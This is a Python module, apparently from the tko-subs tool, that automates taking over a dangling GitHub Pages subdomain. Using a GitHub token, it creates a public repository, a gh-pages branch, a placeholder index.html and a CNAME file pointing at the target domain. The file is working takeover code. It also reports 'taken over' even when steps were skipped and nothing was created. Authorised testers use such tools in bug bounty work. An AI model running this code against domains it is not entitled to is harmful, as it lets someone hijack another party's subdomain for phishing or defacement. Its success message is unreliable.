"""GitHub Pages takeover for tko-subs."""

import base64
from typing import Any, Dict, Optional

import requests

from .base_provider import (
    MissingCredentialsError, ProviderAPIError, RateLimitError, TakeoverProvider, console
)
from .constants import (
    GITHUB_API, GITHUB_LICENSE_TEMPLATE, GITHUB_PAGES_BRANCH, GITHUB_REPO_DESCRIPTION,
    MSG_TAKEN_OVER, PLACEHOLDER_PAGE
)


class GitHubPagesProvider(TakeoverProvider):
    """
    Claims a dangling GitHub Pages domain.

    A public repository named after the domain is created and a gh-pages
    branch is published with a placeholder index.html and a CNAME file
    pointing at the domain. Each API step is best effort: a rate limited
    step is logged and skipped, so a takeover can end up partially done.
    """

    name = "github"
    api_url = GITHUB_API

    def __init__(self, credentials, session=None):
        super().__init__(credentials, session)
        if credentials.github_token:
            self.session.headers.update({
                'Authorization': f"token {credentials.github_token}",
                'Accept': 'application/vnd.github+json'
            })

    def is_rate_limited(self, response: requests.Response) -> bool:
        if response.status_code == 429:
            return True
        if response.status_code != 403:
            return False
        if response.headers.get('X-RateLimit-Remaining') == '0':
            return True
        return 'rate limit' in (response.text or '').lower()

    def attempt(self, domain: str) -> str:
        if not self.credentials.github_token:
            raise MissingCredentialsError("no GitHub token configured")

        console.print(f"Found: Misconfigured Github Page at {domain}", markup=False)
        console.print("Trying to take over this domain now..Please wait for a few seconds")

        repo = self.best_effort("repository creation", lambda: self.create_repository(domain))
        if repo:
            owner, repo_name = repo['owner']['login'], repo['name']
        else:
            owner, repo_name = self.authenticated_login(), domain
            repo = self.best_effort(
                "reading the repository",
                lambda: self.get_repository(owner, repo_name)
            )
        default_branch = (repo or {}).get('default_branch') or 'main'

        sha = self.best_effort(
            "reading the head commit",
            lambda: self.head_commit_sha(owner, repo_name, default_branch)
        )
        ref = None
        if sha:
            ref = self.best_effort(
                "branch creation",
                lambda: self.create_branch(owner, repo_name, GITHUB_PAGES_BRANCH, sha)
            )
        else:
            self.logger.warning(f"No head commit for {owner}/{repo_name}, not creating {GITHUB_PAGES_BRANCH}")

        index_file = cname_file = None
        if ref:
            index_file = self.best_effort(
                "index.html creation",
                lambda: self.create_file(owner, repo_name, "index.html", PLACEHOLDER_PAGE,
                                         "Adding the index.html page")
            )
            cname_file = self.best_effort(
                "CNAME creation",
                lambda: self.create_file(owner, repo_name, "CNAME", domain,
                                         "Adding the subdomain to takeover to the CNAME file")
            )
        else:
            self.logger.warning(f"No {GITHUB_PAGES_BRANCH} branch in {owner}/{repo_name}, not adding files")

        _report("Branch", ref.get('url') if ref else None)
        _report("Index File", _content_url(index_file))
        _report("CNAME file", _content_url(cname_file))

        return MSG_TAKEN_OVER.format(domain=domain)

    def create_repository(self, name: str) -> Dict[str, Any]:
        return self.request('POST', '/user/repos', json={
            'name': name,
            'description': GITHUB_REPO_DESCRIPTION,
            'private': False,
            'auto_init': True,
            'license_template': GITHUB_LICENSE_TEMPLATE
        })

    def authenticated_login(self) -> str:
        """Login of the token owner, used when repository creation gave no owner."""
        try:
            user = self.request('GET', '/user')
        except RateLimitError as e:
            raise ProviderAPIError("cannot determine repository owner: rate limited") from e
        return user['login']

    def get_repository(self, owner: str, repo: str) -> Dict[str, Any]:
        return self.request('GET', f"/repos/{owner}/{repo}")

    def head_commit_sha(self, owner: str, repo: str, branch: str) -> str:
        ref = self.request('GET', f"/repos/{owner}/{repo}/git/ref/heads/{branch}")
        return ref['object']['sha']

    def create_branch(self, owner: str, repo: str, branch: str, sha: str) -> Dict[str, Any]:
        return self.request('POST', f"/repos/{owner}/{repo}/git/refs", json={
            'ref': f"refs/heads/{branch}",
            'sha': sha
        })

    def create_file(self, owner: str, repo: str, path: str, content: str, message: str) -> Dict[str, Any]:
        return self.request('PUT', f"/repos/{owner}/{repo}/contents/{path}", json={
            'message': message,
            'content': base64.b64encode(content.encode('utf-8')).decode('ascii'),
            'branch': GITHUB_PAGES_BRANCH
        })


def _content_url(created: Optional[Dict[str, Any]]) -> Optional[str]:
    if not created:
        return None
    content = created.get('content') or {}
    return content.get('html_url') or content.get('url')


def _report(label: str, url: Optional[str]) -> None:
    if url:
        console.print(f"{label} created at {url}", markup=False)
    else:
        console.print(f"{label} not created", markup=False)
